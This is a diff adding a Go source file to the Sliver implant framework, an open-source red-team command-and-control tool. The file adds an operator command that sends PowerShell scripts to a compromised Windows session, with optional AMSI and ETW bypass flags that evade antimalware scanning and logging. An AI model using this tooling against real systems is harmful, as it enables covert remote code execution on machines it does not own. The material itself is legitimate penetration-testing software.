@@ -0,0 +1,105 @@
+package command
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"context"
+	"fmt"
+	"io"
+	"io/ioutil"
+	"os"
+	"strings"
+
+	"github.com/bishopfox/sliver/client/core"
+	"github.com/bishopfox/sliver/client/spin"
+	"github.com/bishopfox/sliver/protobuf/rpcpb"
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+
+	"github.com/desertbit/grumble"
+)
+
+func powerShell(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
+	session := ActiveSession.GetInteractive()
+	if session == nil {
+		return
+	}
+	if session.OS != "windows" {
+		fmt.Printf(Warn + "The hosted PowerShell runspace is only available on Windows\n")
+		return
+	}
+	script := strings.Join(ctx.Args, " ")
+	if scriptPath := ctx.Flags.String("file"); scriptPath != "" {
+		data, err := ioutil.ReadFile(scriptPath)
+		if err != nil {
+			fmt.Printf(Warn+"%s\n", err)
+			return
+		}
+		// Arguments after the file are run after it, e.g. to call a function it defines
+		script = string(data) + "\n" + script
+	}
+	if strings.TrimSpace(script) == "" {
+		fmt.Printf(Warn + "Please specify a script, see 'help powershell'\n")
+		return
+	}
+	psReq := &sliverpb.PowerShellReq{
+		Script:     script,
+		AmsiBypass: ctx.Flags.Bool("amsi"),
+		EtwBypass:  ctx.Flags.Bool("etw"),
+		Request:    ActiveSession.Request(ctx),
+	}
+
+	if ctx.Flags.Bool("no-stream") {
+		ctrl := make(chan bool)
+		go spin.Until("Running script ...", ctrl)
+		resp, err := rpc.PowerShell(context.Background(), psReq)
+		ctrl <- true
+		<-ctrl
+		if err != nil {
+			fmt.Printf(Warn+"%s\n", err)
+			return
+		}
+		if resp.Output != "" {
+			fmt.Print(resp.Output)
+		}
+		if resp.Response != nil && resp.Response.Err != "" {
+			fmt.Printf(Warn+"%s\n", resp.Response.Err)
+		}
+		return
+	}
+
+	rpcTunnel, err := rpc.CreateTunnel(context.Background(), &sliverpb.Tunnel{
+		SessionID: session.ID,
+	})
+	if err != nil {
+		fmt.Printf(Warn+"%s\n", err)
+		return
+	}
+	tunnel := core.Tunnels.Start(rpcTunnel.TunnelID, rpcTunnel.SessionID)
+	psReq.TunnelID = tunnel.ID
+	resp, err := rpc.PowerShell(context.Background(), psReq)
+	if err == nil && resp.Response != nil && resp.Response.Err != "" {
+		err = fmt.Errorf("%s", resp.Response.Err)
+	}
+	if err != nil {
+		core.Tunnels.Close(tunnel.ID)
+		fmt.Printf(Warn+"%s\n", err)
+		return
+	}
+	io.Copy(os.Stdout, tunnel)
+}